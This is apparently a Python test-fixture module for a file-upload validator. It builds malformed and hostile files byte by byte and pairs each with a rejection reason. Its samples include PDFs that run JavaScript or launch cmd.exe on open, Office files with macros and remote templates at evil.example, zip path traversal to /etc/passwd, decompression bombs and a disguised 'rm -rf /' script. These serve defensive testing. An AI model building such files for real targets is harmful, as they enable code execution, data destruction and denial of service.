"""Real bad files, byte for byte, as careless programs and hostile people make them."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from pypdf import PdfWriter

from movement.files import reasons
from tests.factories import PDF
from tests.movement import files

OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MEGABYTE = 1024 * 1024


# PDF


def a_pdf(*objects: str, head: bytes = b"%PDF-1.7\n", trailer: str = "") -> bytes:
    """A PDF file of these objects, the first of them its root, with a true table of contents."""
    out, places = head, []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1")
    table = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R{trailer}>>\n".encode()
    return out + b"startxref\n%d\n%%%%EOF\n" % table


PAGES = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"
PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"


def pdf_with_root(more: str, *objects: str) -> bytes:
    """One empty page, and a root that says more."""
    return a_pdf(f"<</Type/Catalog/Pages 2 0 R{more}>>", PAGES, PAGE, *objects)


def written_pdf(change: Callable[[PdfWriter], object]) -> bytes:
    """One empty page, changed as programs change a file."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def pdf_with_packed_objects(packed: bytes, filter_name: str = "/FlateDecode") -> bytes:
    """A PDF file whose object 4 stands in a packed stream, object 5, by a packed table."""
    root = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    pages = f"2 0 obj\n{PAGES}\nendobj\n".encode()
    page = f"3 0 obj\n{PAGE}\nendobj\n".encode()
    head = f"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter{filter_name}/Length {len(packed)}>>\n"
    stream = head.encode() + b"stream\n" + packed + b"\nendstream\nendobj\n"
    places = [len(root[:9]), len(root), len(root) + len(pages)]
    body = root + pages + page
    rows = [(0, 0, 65535), *((1, place, 0) for place in places), (2, 5, 0), (1, len(body), 0)]
    table_at = len(body) + len(stream)
    rows.append((1, table_at, 0))
    table = zlib.compress(b"".join(struct.pack("!BIH", *row) for row in rows))
    xref = "6 0 obj\n<</Type/XRef/Size 7/Root 1 0 R/W[1 4 2]/Filter/FlateDecode"
    xref += f"/Length {len(table)}>>\n"
    return (
        body + stream + xref.encode() + b"stream\n" + table + b"\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % table_at
    )


def packed_object(body: bytes) -> bytes:
    """Object 4, packed."""
    return zlib.compress(b"4 0 " + body)


# Pictures


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG file with that size in its head; its rows are black unless told."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
        )

    head = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packed = zlib.compress(rows or bytes((width // 8 + 1) * min(height, 4)))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


def a_photo(kind: str = "JPEG", size: tuple[int, int] = (64, 48)) -> bytes:
    """Half red, half blue, so that what is up can be seen."""
    picture = Image.new("RGB", size, "red")
    picture.paste("blue", (0, size[1] // 2, size[0], size[1]))
    stream = io.BytesIO()
    picture.save(stream, kind)
    return stream.getvalue()


# Office


def office(kind: str = files.WORD, **more: bytes | str) -> bytes:
    """A small Office file with more parts in it, `/` written as `__`."""
    return with_parts(files.document(kind), {n.replace("__", "/"): c for n, c in more.items()})


def with_parts(document: bytes, parts: dict[str, bytes | str]) -> bytes:
    """The document with parts added."""
    stream = io.BytesIO(document)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def relations(kind: str, target: str, mode: str = "") -> str:
    """A list of relations with one in it."""
    how = f' TargetMode="{mode}"' if mode else ""
    return (
        f'<Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{OFFICE}/{kind}" Target="{target}"{how}/></Relationships>'
    )


def contents(*kinds: str, main: str = files.WORD) -> bytes:
    """An Office file whose table of contents names these types besides its own."""
    extra = "".join(f'<Override PartName="/x.bin" ContentType="{kind}"/>' for kind in kinds)
    return files.document(main, extra=extra)


def many_parts(count: int) -> bytes:
    """An Office file with very many small parts."""
    return with_parts(files.document(), {f"word/media/{n}.txt": "" for n in range(count)})


def password_on_parts() -> bytes:
    """Bit 0 of the general purpose flag of the first part: encrypted."""
    content = bytearray(files.document())
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        start = archive.start_dir
    content[6] |= 1
    content[start + 8] |= 1
    return bytes(content)


def lying_size() -> bytes:
    """A part whose head says 10 bytes and which unpacks into a megabyte."""
    content = bytearray(with_parts(files.document(), {"word/big.xml": b" " * MEGABYTE}))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        place = content.index(b"word/big.xml", archive.start_dir) - 46
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(content)


def broken_part() -> bytes:
    """A document with one turned bit in a part: its checksum does not fit any more."""
    part = b"x" * 4000
    stream = io.BytesIO(files.document())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("word/footnotes.xml", part)
    content = bytearray(stream.getvalue())
    content[content.index(part) + 9] ^= 1
    return bytes(content)


def without_main_part() -> bytes:
    """A document whose table of contents names a main part that is not there."""
    return files.document(order=tuple(n for n in files.WORD_ORDER if n != "*"))


BOMB = zlib.compress(bytes(60 * MEGABYTE), 9)
ENCRYPTED_OLE = OLE_HEAD + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(5000)
EMBEDDED_OLE = OLE_HEAD + bytes(2000)
ZIP_IN_ZIP = files.archive(**{"a.zip": files.archive(**{"b.zip": "x"}).decode("latin-1")})

BAD: dict[str, tuple[str, Callable[[], bytes], str]] = {
    # What it is called
    "a program": ("virus.exe", lambda: files.PROGRAM, reasons.NOT_THIS_KIND),
    "a program behind two extensions": ("x.pdf.exe", lambda: PDF, reasons.NOT_THIS_KIND),
    "an SVG drawing": ("hinh.svg", lambda: files.SVG, reasons.NOT_THIS_KIND),
    "a web page": ("trang.html", lambda: files.WEB_PAGE, reasons.NOT_THIS_KIND),
    "no extension": ("bienban", lambda: PDF, reasons.NOT_THIS_KIND),
    "a WebP picture": ("anh.webp", lambda: a_photo("WEBP"), reasons.NOT_THIS_KIND),
    "a ZIP": ("ho-so.zip", lambda: files.archive(a="b"), reasons.NOT_THIS_KIND),
    "a legacy document": ("cu.doc", lambda: files.OLD_WORD, reasons.OLD_OFFICE),
    "a legacy workbook": ("cu.xls", lambda: files.OLD_WORD, reasons.OLD_OFFICE),
    "a macro document": ("lenh.docm", office, reasons.MACROS),
    "a macro workbook": ("lenh.xlsm", lambda: office(files.EXCEL), reasons.MACROS),
    # How big it is
    "an empty PDF": ("rong.pdf", lambda: b"", reasons.EMPTY),
    "an empty picture": ("rong.png", lambda: b"", reasons.EMPTY),
    "11 MB": ("to.pdf", lambda: PDF.ljust(11 * MEGABYTE), reasons.TOO_BIG),
    "80 MB": ("rat-to.pdf", lambda: PDF.ljust(80 * MEGABYTE), reasons.TOO_BIG),
    # Another thing behind the extension
    "a program as PDF": ("a.pdf", lambda: files.PROGRAM, reasons.WRONG_CONTENT),
    "a shell script as PDF": ("a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", reasons.WRONG_CONTENT),
    "a text as PDF": ("a.pdf", lambda: files.TEXT, reasons.WRONG_CONTENT),
    "a picture as PDF": ("a.pdf", lambda: a_photo("PNG"), reasons.WRONG_CONTENT),
    "a web page before a PDF": (
        "a.pdf",
        lambda: files.WEB_PAGE + PDF,
        reasons.WRONG_CONTENT,
    ),
    "a web page as JPG": ("a.jpg", lambda: files.WEB_PAGE, reasons.WRONG_CONTENT),
    "a GIF as JPG": ("a.jpg", lambda: a_photo("GIF"), reasons.WRONG_CONTENT),
    "a WebP as JPG": ("a.jpg", lambda: a_photo("WEBP"), reasons.WRONG_CONTENT),
    "a PNG as JPEG": ("a.jpeg", lambda: a_photo("PNG"), reasons.WRONG_CONTENT),
    "an SVG as PNG": ("a.png", lambda: files.SVG, reasons.WRONG_CONTENT),
    "a JPG as HEIC": ("a.heic", a_photo, reasons.WRONG_CONTENT),
    "a text as DOCX": ("a.docx", lambda: files.TEXT, reasons.WRONG_CONTENT),
    "a PDF as DOCX": ("a.docx", lambda: PDF, reasons.WRONG_CONTENT),
    "a workbook as DOCX": ("a.docx", files.workbook, reasons.WRONG_CONTENT),
    "a document as XLSX": ("a.xlsx", files.document, reasons.WRONG_CONTENT),
    "a ZIP as XLSX": ("a.xlsx", lambda: files.archive(a="b"), reasons.WRONG_CONTENT),
    # Damaged
    "a PDF cut off": ("a.pdf", lambda: PDF[:-20], reasons.DAMAGED),
    "a PDF of garbage": ("a.pdf", lambda: b"%PDF-1.7\n\xff\xfe\n%%EOF", reasons.DAMAGED),
    "a PNG cut off": ("a.png", lambda: files.noise("PNG")[:-200], reasons.DAMAGED),
    "a JPG cut off": ("a.jpg", lambda: files.noise("JPEG")[:-200], reasons.DAMAGED),
    "a HEIC of garbage": (
        "a.heic",
        lambda: files.heic()[:60] + bytes(400),
        reasons.DAMAGED,
    ),
    "a DOCX cut off": ("a.docx", lambda: files.document()[:400], reasons.DAMAGED),
    "a DOCX with a broken part": ("a.docx", broken_part, reasons.DAMAGED),
    "a DOCX without its main part": ("a.docx", without_main_part, reasons.DAMAGED),
    "a DOCX with a crooked table": (
        "a.docx",
        lambda: files.document(table="<Types><Override"),
        reasons.DAMAGED,
    ),
    "a DOCX with entities": (
        "a.docx",
        lambda: files.document(table='<!DOCTYPE t [<!ENTITY a "b">]><Types>&a;</Types>'),
        reasons.DAMAGED,
    ),
    "a DOCX that lies about its size": ("a.docx", lying_size, reasons.DAMAGED),
    # Locked
    "a PDF with a password": (
        "a.pdf",
        lambda: written_pdf(lambda writer: writer.encrypt("mat-khau")),
        reasons.PASSWORD,
    ),
    "a DOCX with a password": ("a.docx", lambda: ENCRYPTED_OLE, reasons.PASSWORD),
    "an XLSX with a password": ("a.xlsx", lambda: ENCRYPTED_OLE, reasons.PASSWORD),
    "a DOCX with a password on its parts": ("a.docx", password_on_parts, reasons.PASSWORD),
    "a DOC renamed": ("a.docx", lambda: files.OLD_WORD, reasons.OLD_OFFICE),
    # Two things at once
    "a PDF that is a ZIP as well": (
        "a.pdf",
        lambda: PDF + files.archive(**{"a.txt": "a"}),
        reasons.MIXED,
    ),
    "a PDF inside the comment of a ZIP": (
        "a.pdf",
        lambda: PDF[:9] + files.archive_with_comment(PDF[9:]),
        reasons.MIXED,
    ),
    "a PDF with a web page behind it": ("a.pdf", lambda: PDF + files.WEB_PAGE, reasons.MIXED),
    # Programs and files inside
    "a PDF with JavaScript": (
        "a.pdf",
        lambda: pdf_with_root("/Names<</JavaScript<</Names[(a)4 0 R]>>>>", SCRIPT),
        reasons.PDF_SCRIPT,
    ),
    "a PDF that runs a script when opened": (
        "a.pdf",
        lambda: pdf_with_root("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        reasons.PDF_SCRIPT,
    ),
    "a PDF with a script by another spelling": (
        "a.pdf",
        lambda: pdf_with_root("/AA<</WC<</S/J#61vaScript/J#53(x)>>>>"),
        reasons.PDF_SCRIPT,
    ),
    "a PDF with a script in a packed object": (
        "a.pdf",
        lambda: pdf_with_packed_objects(packed_object(b"[<</S/JavaScript/JS(x)>>]")),
        reasons.PDF_SCRIPT,
    ),
    "a PDF that starts a program": (
        "a.pdf",
        lambda: pdf_with_root("/OpenAction<</S/Launch/F(cmd.exe)>>"),
        reasons.PDF_LAUNCH,
    ),
    "a PDF that starts a program in a roundabout way": (
        "a.pdf",
        lambda: pdf_with_root("/OpenAction<</S 4 0 R/F(cmd.exe)>>", "/Launch"),
        reasons.PDF_LAUNCH,
    ),
    "a PDF with a file in it": (
        "a.pdf",
        lambda: written_pdf(lambda writer: writer.add_attachment("virus.exe", files.PROGRAM)),
        reasons.PDF_ATTACHMENT,
    ),
    "a PDF with a hidden file": (
        "a.pdf",
        lambda: pdf_with_root("", "<</Type/EmbeddedFile/Length 4>>\nstream\nMZ..\nendstream"),
        reasons.PDF_ATTACHMENT,
    ),
    "a PDF without a page": (
        "a.pdf",
        lambda: a_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>"),
        reasons.PDF_NO_PAGE,
    ),
    "a PDF whose first page is a font": (
        "a.pdf",
        lambda: a_pdf("<</Type/Catalog/Pages 2 0 R>>", PAGES, "<</Type/Font>>"),
        reasons.PDF_NO_PAGE,
    ),
    "a PDF whose pages go round": (
        "a.pdf",
        lambda: a_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 1>>"),
        reasons.PDF_NO_PAGE,
    ),
    "a PDF whose objects unpack without end": (
        "a.pdf",
        lambda: pdf_with_packed_objects(BOMB),
        reasons.PDF_TOO_COMPLEX,
    ),
    "a PDF with objects packed in an odd way": (
        "a.pdf",
        lambda: pdf_with_packed_objects(packed_object(b"<<>>"), "/LZWDecode"),
        reasons.PDF_TOO_COMPLEX,
    ),
    "a macro document renamed": (
        "a.docx",
        lambda: files.document(files.WORD_MACROS),
        reasons.MACROS,
    ),
    "a DOCX with a macro project": (
        "a.docx",
        lambda: office(word__vbaProject=b"x"),
        reasons.MACROS,
    ),
    "a DOCX that names a macro project": (
        "a.docx",
        lambda: contents("application/vnd.ms-office.vbaProject"),
        reasons.MACROS,
    ),
    "a DOCX that is led to a macro project": (
        "a.docx",
        lambda: with_parts(
            files.document(),
            {"word/_rels/x.xml.rels": relations("vbaProject", "harmless.bin")},
        ),
        reasons.MACROS,
    ),
    "an XLSX with a macro sheet": (
        "a.xlsx",
        lambda: office(files.EXCEL, xl__macrosheets__sheet1="<x/>"),
        reasons.MACROS,
    ),
    "a DOCX with an OLE object": (
        "a.docx",
        lambda: with_parts(files.document(), {"word/embeddings/oleObject1.bin": b"x"}),
        reasons.OBJECTS,
    ),
    "a DOCX with an OLE object by another name": (
        "a.docx",
        lambda: with_parts(files.document(), {"word/media/anh.png": EMBEDDED_OLE}),
        reasons.OBJECTS,
    ),
    "a DOCX with ActiveX": (
        "a.docx",
        lambda: with_parts(files.document(), {"word/activeX/activeX1.xml": "<x/>"}),
        reasons.OBJECTS,
    ),
    "a DOCX that names an OLE object": (
        "a.docx",
        lambda: contents("application/vnd.openxmlformats-officedocument.oleObject"),
        reasons.OBJECTS,
    ),
    "an XLSX with an OLE object elsewhere": (
        "a.xlsx",
        lambda: with_parts(
            files.workbook(),
            {"xl/_rels/x.rels": relations("oleObject", "https://evil.example/a", "External")},
        ),
        reasons.OBJECTS,
    ),
    "an XLSX with an OLE object in another alphabet": (
        "a.xlsx",
        lambda: with_parts(
            files.workbook(),
            {"xl/_rels/x.rels": relations("oleObj&#101;ct", "a").encode("utf-16")},
        ),
        reasons.OBJECTS,
    ),
    "a DOCX with a template from the net": (
        "a.docx",
        lambda: with_parts(
            files.document(),
            {
                "word/_rels/settings.xml.rels": relations(
                    "attachedTemplate", "https://evil.example/a.dotm", "External"
                )
            },
        ),
        reasons.OUTSIDE_TEMPLATE,
    ),
    # Bombs
    "a DOCX with 2.001 parts": ("a.docx", lambda: many_parts(2000), reasons.TOO_MANY_PARTS),
    "a DOCX that unpacks a thousandfold": (
        "a.docx",
        lambda: office(word__big=bytes(30 * MEGABYTE)),
        reasons.UNPACKS_TOO_BIG,
    ),
    "a DOCX with an endless table": (
        "a.docx",
        lambda: with_parts(files.document(), {"a.rels": files.filler(5 * MEGABYTE)}),
        reasons.UNPACKS_TOO_BIG,
    ),
    "a bomb in a chart's workbook": (
        "a.docx",
        lambda: with_parts(
            files.document(),
            {"word/embeddings/a.xlsx": office(files.EXCEL, xl__big=bytes(30 * MEGABYTE))},
        ),
        reasons.UNPACKS_TOO_BIG,
    ),
    "a ZIP in a ZIP in a ZIP": (
        "a.docx",
        lambda: with_parts(files.document(), {"word/a.zip": files.nested_zip()}),
        reasons.NESTED,
    ),
    "a DOCX that climbs out of its folder": (
        "a.docx",
        lambda: with_parts(files.document(), {"../../etc/passwd": "x"}),
        reasons.UNSAFE_PATHS,
    ),
    "a DOCX with an absolute path": (
        "a.docx",
        lambda: with_parts(files.document(), {"/etc/passwd": "x"}),
        reasons.UNSAFE_PATHS,
    ),
    "a DOCX with a drive in a path": (
        "a.docx",
        lambda: with_parts(files.document(), {"C:/Windows/a.dll": "x"}),
        reasons.UNSAFE_PATHS,
    ),
    "a PNG of 10 billion points": (
        "a.png",
        lambda: png(100_000, 100_000),
        reasons.TOO_MANY_PIXELS,
    ),
    "a PNG of 60 million points": ("a.png", lambda: png(10_000, 6_000), reasons.TOO_MANY_PIXELS),
}
